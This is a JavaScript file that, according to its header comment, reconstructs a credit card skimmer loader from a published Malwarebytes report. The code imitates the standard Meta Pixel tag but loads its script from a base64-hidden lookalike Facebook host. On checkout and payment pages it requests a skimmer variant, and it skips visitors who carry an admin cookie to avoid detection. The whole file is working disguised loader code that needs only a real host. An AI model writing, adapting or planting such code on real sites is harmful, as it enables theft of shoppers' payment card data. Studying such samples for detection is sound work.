// fbpixel-skimmer, written from Malwarebytes Labs' report "Credit card skimmer hidden in
// fake Facebook Pixel tracker" (Jérôme Segura, 2024) and the coverage of it: the injected tag
// is the standard Meta Pixel base code, with a pixel ID and the usual init/PageView calls,
// but its fbevents.js comes from a host made to look like Facebook's CDN, and on the
// checkout page the URL it asks for (held base64 in the tag) returns the skimmer instead of
// the tracker. Hosts are .invalid; the pixel ID is made up.
!function (f, b, e, v, n, t, s) {
  if (f.fbq) return;
  n = f.fbq = function () { n.callMethod ? n.callMethod.apply(n, arguments) : n.queue.push(arguments); };
  if (!f._fbq) f._fbq = n;
  n.push = n; n.loaded = !0; n.version = "2.0"; n.queue = [];
  t = b.createElement(e); t.async = !0;
  t.src = v;
  s = b.getElementsByTagName(e)[0];
  s.parentNode.insertBefore(t, s);
}(window, document, "script", (function () {
  var base = atob("aHR0cHM6Ly9jb25uZWN0LmZhY2Vib29rLW5ldC5pbnZhbGlkL2VuX1VTL2ZiZXZlbnRzLmpz");
  var p = location.pathname;
  if (/checkout|onestepcheckout|firecheckout|payment/i.test(p) && document.cookie.indexOf("admin") < 0) {
    return base + "?v=next&id=" + btoa(location.hostname).replace(/=+$/, "");
  }
  return base;
})());
fbq("init", "817204455193276");
fbq("track", "PageView");
if (/checkout/i.test(location.pathname)) fbq("track", "InitiateCheckout");
